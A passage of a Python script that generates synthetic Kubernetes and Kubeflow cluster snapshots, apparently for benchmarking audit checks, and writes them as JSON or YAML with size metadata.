    # Small snapshots keep only the essential part of the platform (what the checks look at first).
    if len(objs) > n * 0.15:
        essential = lambda o: (o["kind"] in ("Gateway", "VirtualService", "AuthorizationPolicy")
                               or o["metadata"].get("namespace") == "istio-system"
                               or o["metadata"]["name"] in ("cluster-admin", "kubeflow-admin", "kubeflow-edit", "kubeflow-view"))
        keep = [o for o in objs if essential(o)]
        rest = [o for o in objs if not essential(o)]
        objs = keep + g.r.sample(rest, max(0, int(n * 0.15) - len(keep)))
    objs += attack(g, tenants[0], tenants[1])
    per_tenant = [t.core() for t in tenants]
    budget = n - len(objs) - sum(len(c) for c in per_tenant)
    # Uneven load: a few busy tenants, a long tail (Pareto weights).
    weights = [g.r.paretovariate(1.3) for _ in tenants]
    total_w = sum(weights)
    for t, core, w in zip(tenants, per_tenant, weights):
        quota = int(budget * w / total_w) if budget > 0 else 0
        made = []
        while len(made) < quota:
            made.extend(t.run())
        objs.extend(core)
        objs.extend(made)
    while len(objs) < n:
        objs.extend(g.r.choice(tenants).run())
    # Trim from the end, never the attack-shaped objects (they come before the tenants' runs).
    del objs[n:]
    objs.sort(key=lambda o: (KIND_RANK.get(o["kind"], 99), o["metadata"].get("namespace", ""), o["metadata"]["name"]))
    return objs, len(tenants)


# ---------------------------------------------------------------------------------------------
# Writing

def script_hash():
    with open(os.path.abspath(__file__), "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()[:12]


def write_json(objs, path, indent):
    """The List written item by item (its text is the same as json.dumps of the whole List)."""
    sizes = []
    tail = {"kind": "List", "metadata": {"resourceVersion": ""}}
    with open(path, "w", encoding="utf-8") as f:
        if not indent:
            f.write('{"apiVersion":"v1","items":[')
            for i, o in enumerate(objs):
                text = json.dumps(o, ensure_ascii=False, separators=(",", ":"))
                sizes.append(len(text.encode()))
                f.write(("," if i else "") + text)
            f.write('],' + json.dumps(tail, separators=(",", ":"))[1:] + "\n")
            return sizes
        pad = " " * indent
        if not objs:
            f.write(json.dumps({"apiVersion": "v1", "items": [], **tail}, indent=indent) + "\n")
            return sizes
        f.write(f'{{\n{pad}"apiVersion": "v1",\n{pad}"items": [\n')
        for i, o in enumerate(objs):
            text = pad * 2 + json.dumps(o, indent=indent, ensure_ascii=False).replace("\n", "\n" + pad * 2)
            sizes.append(len(text.encode()))
            f.write(text)
            f.write(",\n" if i + 1 < len(objs) else "\n")
        f.write(f'{pad}],\n' + json.dumps(tail, indent=indent)[2:].replace("\n", "\n") + "\n")
    return sizes


class _Dumper(getattr(yaml, "CSafeDumper", yaml.SafeDumper)):
    """Multi-line strings as literal blocks (`|`), as kubectl and kustomize write them."""


_Dumper.add_representer(str, lambda d, s: d.represent_scalar("tag:yaml.org,2002:str", s, style="|" if "\n" in s else None))


def write_yaml(objs, path):
    dumper = _Dumper
    sizes = []
    with open(path, "w", encoding="utf-8") as f:
        for i, o in enumerate(objs):
            text = yaml.dump(o, Dumper=dumper, default_flow_style=False, sort_keys=True, allow_unicode=True, width=120)
            if i:
                f.write("---\n")
            sizes.append(len(text.encode()))
            f.write(text)
    return sizes


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--format", choices=("json", "yaml"), required=True)
    ap.add_argument("--objects", type=int, required=True)
    ap.add_argument("--indent", type=int, default=0, help="JSON only: 0 compact (default), 4 as kubectl prints")
    ap.add_argument("--out-dir", default="out/bench/audit")
    args = ap.parse_args()
    if args.format == "yaml" and args.objects == 0:
        ap.error("--objects 0 is for JSON (an empty List)")
    os.makedirs(args.out_dir, exist_ok=True)
    h = script_hash()
    layout = f"-i{args.indent}" if args.format == "json" and args.indent else ""
    stem = f"snapshot-{args.objects}{layout}-{h}.{args.format}"
    path = os.path.join(args.out_dir, stem)
    if os.path.exists(path) and os.path.exists(path + ".meta.json"):
        print(path)
        return
    stale = re.compile(rf"snapshot-{args.objects}{layout}-[0-9a-f]{{12}}\.{args.format}(\.meta\.json|\.tmp)?")
    for old in os.listdir(args.out_dir):  # earlier versions of this snapshot (the script changed)
        if stale.fullmatch(old) and not old.startswith(f"snapshot-{args.objects}{layout}-{h}."):
            os.remove(os.path.join(args.out_dir, old))
    seed = SEED * 1000 + args.objects * 2 + (args.format == "yaml")
    objs, n_tenants = generate(args.objects, seed) if args.objects else ([], 0)
    tmp = path + ".tmp"
    sizes = write_json(objs, tmp, args.indent) if args.format == "json" else write_yaml(objs, tmp)
    kinds = {}
    for o in objs:
        kinds[o["kind"]] = kinds.get(o["kind"], 0) + 1
    meta = {
        "format": args.format, "layout": ("compact" if not args.indent else f"indent {args.indent}") if args.format == "json" else "block",
        "objects": len(objs), "bytes": os.path.getsize(tmp), "seed": seed, "script": h,
        "profile_namespaces": n_tenants,
        "namespaces": len({o["metadata"].get("namespace") for o in objs if o["metadata"].get("namespace")}),
        "kinds": dict(sorted(kinds.items(), key=lambda kv: -kv[1])),
        "object_bytes": ({"median": int(statistics.median(sizes)), "p10": int(statistics.quantiles(sizes, n=10)[0]),
                          "p90": int(statistics.quantiles(sizes, n=10)[-1]), "max": max(sizes)} if len(sizes) > 1 else {}),
    }
    with open(path + ".meta.json", "w") as f:
        json.dump(meta, f, indent=2)
        f.write("\n")
    os.replace(tmp, path)
    print(path)


if __name__ == "__main__":
    sys.exit(main())
